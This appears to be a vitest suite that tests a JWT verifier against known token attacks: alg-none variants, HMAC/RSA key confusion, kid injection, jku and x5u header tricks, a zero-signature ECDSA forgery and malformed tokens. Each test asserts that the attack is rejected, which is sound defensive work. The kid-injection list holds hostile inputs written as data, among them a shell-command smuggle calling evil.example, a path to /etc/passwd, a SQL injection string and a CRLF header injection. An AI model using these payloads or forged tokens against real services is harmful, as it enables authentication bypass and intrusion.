/** Attacks on JWTs, each by its name, as RFC 8725 and the field's advisories have them. */
import { createPublicKey, randomBytes } from 'node:crypto';
import { CompactEncrypt, exportSPKI, importJWK, type CryptoKey } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startScriptedServer, type ScriptedServer } from '../../chart/scripted-server.ts';
import {
  bearer,
  bySecret,
  bySigner,
  compact,
  goodClaims,
  ISSUER,
  jwksFile,
  makeSigner,
  openAuth,
  pinned,
  tokenOf,
  type OpenedAuth,
  type Signer,
} from './support.ts';

let ehr: Signer;
let attacker: Signer;
let opened: OpenedAuth;
let trap: ScriptedServer;
beforeAll(async () => {
  ehr = await makeSigner('RS384', 'ehr-1');
  attacker = await makeSigner('RS384', 'ehr-1');
  opened = await openAuth({ tenants: [pinned(ehr)] });
  trap = await startScriptedServer((_request, response) => {
    response.json({ keys: [attacker.publicJwk] });
  });
});
afterAll(() => trap.close());

const header = (change: Record<string, unknown> = {}): Record<string, unknown> => ({
  alg: 'RS384',
  typ: 'JWT',
  kid: 'ehr-1',
  ...change,
});
const unsigned = (): Buffer => Buffer.alloc(0);
const judged = (token: string): Promise<unknown> => opened.judge(bearer(token));

describe('the algorithm', () => {
  it.each(['none', 'None', 'NONE', 'nOnE'])('%s, unsigned or with a stolen signature', async (alg) => {
    expect(await judged(compact(header({ alg }), goodClaims(), unsigned))).toBe('malformed');
    expect(await judged(compact(header({ alg }), goodClaims(), bySigner(ehr)))).toBe('algorithm');
  });

  it('HS256, HS384 and HS512 with the public key as the secret: PEM, DER, JWK', async () => {
    const key = createPublicKey({ key: ehr.publicJwk, format: 'jwk' });
    const pem = await exportSPKI((await importJWK(ehr.publicJwk, 'RS384')) as CryptoKey);
    const secrets = [
      pem,
      pem.trim(),
      `${pem}\n`,
      key.export({ type: 'pkcs1', format: 'pem' }),
      key.export({ type: 'spki', format: 'der' }),
      JSON.stringify(ehr.publicJwk),
      Buffer.from(ehr.publicJwk.n ?? '', 'base64url'),
      '',
    ];
    for (const bits of ['256', '384', '512'])
      for (const secret of secrets) {
        const signature = bySecret(secret, `sha${bits}`);
        expect(await judged(compact(header({ alg: `HS${bits}` }), goodClaims(), signature))).toBe(
          'algorithm',
        );
        // The same under the name of the right algorithm.
        expect(await judged(compact(header(), goodClaims(), signature))).toBe('signature');
      }
  });

  it.each(['RS256', 'PS384', 'ES256', 'EdDSA', 'dir', '', 'RS384 ', 1, null, ['RS384'], {}])(
    '%j',
    async (alg) => {
      expect(await judged(compact(header({ alg }), goodClaims(), bySigner(ehr)))).toBe('algorithm');
    },
  );

  it('one that the client does not use, though its key would do', async () => {
    const strict = await openAuth({ tenants: [pinned(ehr, {}, { algorithms: ['ES384'] })] });
    expect(await strict.judge(bearer(tokenOf(ehr)))).toBe('algorithm');
  });

  it('ES384 over an RSA key', async () => {
    expect(await judged(compact(header({ alg: 'ES384' }), goodClaims(), bySigner(ehr)))).toBe('unknown-key');
  });
});

describe('the key', () => {
  it('of the attacker, under the name of ours', async () => {
    expect(await judged(tokenOf(attacker))).toBe('signature');
  });

  it.each([
    ['a path', '../../../../etc/passwd'],
    ['a device', '/dev/null'],
    ['SQL', "x' UNION SELECT 'secret' --"],
    ['a shell', '$(curl evil.example)|id;'],
    ['a URL', 'https://evil.example/jwks.json'],
    ['Object.prototype', '__proto__'],
    ['a constructor', 'constructor'],
    ['nothing', ''],
    ['very long', 'k'.repeat(4000)],
    ['an array', ['ehr-1']],
    ['an object', { toString: 'ehr-1' }],
    ['a number', 1],
    ['null', null],
    ['a zero byte', 'ehr-1\u0000'],
    ['a line break', 'ehr-1\r\nX-Injected: 1'],
    ['other case', 'EHR-1'],
  ])('kid injection: %s', async (_name, kid) => {
    expect(await judged(tokenOf(ehr, { header: { kid } }))).toBe('unknown-key');
    expect(await judged(tokenOf(attacker, { header: { kid } }))).toBe('unknown-key');
  });

  it('no kid where there are two of the algorithm, or a kid that two share', async () => {
    const two = await makeSigner('RS384', 'ehr-2');
    const files = [
      [ehr.publicJwk, two.publicJwk],
      [ehr.publicJwk, { ...two.publicJwk, kid: 'ehr-1' }],
    ];
    const [several, shared] = await Promise.all(
      files.map((keys) =>
        openAuth({ tenants: [{ clientAuth: { clients: [{ issuer: ISSUER, jwksFile: jwksFile(keys) }] } }] }),
      ),
    );
    expect(await several?.judge(bearer(tokenOf(ehr, { header: { kid: undefined } })))).toBe('unknown-key');
    expect(await several?.judge(bearer(tokenOf(ehr)))).toEqual(['tenant-0']);
    expect(await shared?.judge(bearer(tokenOf(ehr)))).toBe('unknown-key');
  });

  it('brought along: jwk, x5c, x5u, x5t count for nothing', async () => {
    const brought = {
      jwk: attacker.publicJwk,
      x5c: [Buffer.from('a certificate').toString('base64')],
      x5u: `${trap.url}/chain.pem`,
      x5t: 'AAAA',
    };
    expect(await judged(tokenOf(attacker, { header: brought }))).toBe('signature');
    expect(await judged(tokenOf(attacker, { header: { ...brought, kid: undefined } }))).toBe('signature');
    // Nor do they harm the one who is who it says.
    expect(await judged(tokenOf(ehr, { header: brought }))).toEqual(['tenant-0']);
    expect(trap.seen).toEqual([]);
  });

  it('at an address of the attacker: jku is never followed', async () => {
    const jku = `${trap.url}/jwks.json`;
    // A client with keys in a file has no address that jku could be: its keys decide.
    expect(await judged(tokenOf(attacker, { header: { jku } }))).toBe('signature');
    const own = await startScriptedServer((_request, response) => {
      response.json({ keys: [ehr.publicJwk] });
    });
    const jwksUrl = `${own.url}/jwks.json`;
    const client = { issuer: ISSUER, jwksUrl };
    const auth = await openAuth({ tenants: [{ clientAuth: { clients: [client] } }] });
    const foreign = [
      jku,
      `${jwksUrl}?`,
      `${jwksUrl}#x`,
      jwksUrl.replace('http', 'HTTP'),
      [jwksUrl],
      null,
      '',
    ];
    for (const each of foreign) {
      expect(await auth.judge(bearer(tokenOf(attacker, { header: { jku: each } })))).toBe('jku');
      expect(await auth.judge(bearer(tokenOf(ehr, { header: { jku: each } })))).toBe('jku');
    }
    expect(await auth.judge(bearer(tokenOf(ehr, { header: { jku: jwksUrl } })))).toEqual(['tenant-0']);
    expect(trap.seen).toEqual([]);
    await own.close();
  });
});

describe('the header', () => {
  it.each([
    ['crit', { crit: ['exp'], exp: 1 }, 'unsupported-header'],
    ['an empty crit', { crit: [] }, 'unsupported-header'],
    ['an unencoded payload', { b64: false, crit: ['b64'] }, 'unsupported-header'],
    ['no typ', { typ: undefined }, 'type'],
    ['an access token', { typ: 'at+jwt' }, 'type'],
    ['typ a list', { typ: ['JWT'] }, 'type'],
  ])('%s', async (_name, change, reason) => {
    expect(await judged(tokenOf(ehr, { header: change }))).toBe(reason);
  });

  it('typ in small letters is the same type', async () => {
    expect(await judged(tokenOf(ehr, { header: { typ: 'jwt' } }))).toEqual(['tenant-0']);
  });
});

describe('the form', () => {
  it('a token that was changed anywhere', async () => {
    const token = tokenOf(ehr);
    const [head = '', payload = '', signature = ''] = token.split('.');
    const other = compact(header(), goodClaims(), unsigned).split('.')[1] ?? '';
    expect(await judged(`${head}.${other}.${signature}`)).toBe('signature');
    const flipped = `${signature.startsWith('A') ? 'B' : 'A'}${signature.slice(1)}`;
    expect(await judged(`${head}.${payload}.${flipped}`)).toBe('signature');
    expect(await judged(`${head}.${payload}.${signature.slice(0, -4)}`)).toBe('signature');
    expect(await judged(`${head}.${payload}.`)).toBe('malformed');
    expect(await judged(token)).toEqual(['tenant-0']);
  });

  it('a signature of zeros over P-384 (CVE-2022-21449)', async () => {
    const ec = await makeSigner('ES384', 'ec');
    const auth = await openAuth({ tenants: [pinned(ec)] });
    const zeros = compact({ alg: 'ES384', typ: 'JWT', kid: 'ec' }, goodClaims(), () => Buffer.alloc(96));
    expect(await auth.judge(bearer(zeros))).toBe('signature');
  });

  it('a JWE, nested or not', async () => {
    const secret = randomBytes(32);
    const nested = await new CompactEncrypt(Buffer.from(tokenOf(ehr)))
      .setProtectedHeader({ alg: 'dir', enc: 'A256GCM', cty: 'JWT' })
      .encrypt(secret);
    expect(await judged(nested)).toBe('malformed');
    // A JWT within a JWS: its claims are a string.
    expect(await judged(compact(header({ cty: 'JWT' }), tokenOf(ehr), bySigner(ehr)))).toBe('malformed');
  });

  it.each([
    ['no base64', '!!!.###.$$$'],
    ['padding', `${Buffer.from('{"alg":"RS384"}').toString('base64')}=.e30=.e30=`],
    ['two parts', 'e30.e30'],
    ['four parts', 'e30.e30.e30.e30'],
    ['no JSON', 'AAAA.AAAA.AAAA'],
    ['JSON that is no object', 'MQ.MQ.MQ'],
    ['a JSON serialization', JSON.stringify({ payload: 'e30', signatures: [] })],
    ['a space within', 'e30 .e30.e30'],
    ['nothing', ''],
  ])('%s', async (_name, token) => {
    expect(await judged(token)).toBe('malformed');
  });

  it('claims that are deep, or a list', async () => {
    const deep = `${'['.repeat(2000)}${']'.repeat(2000)}`;
    const token = `${Buffer.from(JSON.stringify(header())).toString('base64url')}.${Buffer.from(deep).toString('base64url')}.AAAA`;
    expect(await judged(token)).toBe('malformed');
  });

  it('too large: refused before it is looked at', async () => {
    expect(await judged(tokenOf(ehr, { claims: { pad: 'x'.repeat(9000) } }))).toBe('too-large');
    expect(await judged('x'.repeat(1_000_000))).toBe('too-large');
    expect(await judged(tokenOf(ehr, { claims: { pad: 'x'.repeat(4000) } }))).toEqual(['tenant-0']);
  });

  it.each([
    ['Basic', 'Basic dXNlcjpwYXNz'],
    ['the token alone', () => tokenOf(ehr)],
    ['DPoP', () => `DPoP ${tokenOf(ehr)}`],
    ['a scheme that begins so', () => `BearerX ${tokenOf(ehr)}`],
    ['a comma', () => `Basic x, Bearer ${tokenOf(ehr)}`],
  ])('another scheme: %s', async (_name, value) => {
    expect(await opened.judge(typeof value === 'string' ? value : value())).toBe('not-bearer');
  });

  it('two headers, even if both are good or the same', async () => {
    const [first, second] = [bearer(tokenOf(ehr)), bearer(tokenOf(ehr))];
    expect(await opened.judge([first, second])).toBe('several-headers');
    expect(await opened.judge([first, first])).toBe('several-headers');
    expect(await opened.judge(`${first}, ${second}`)).toBe('malformed');
    // Nothing was used up by it.
    expect(await opened.judge(first)).toEqual(['tenant-0']);
  });
});
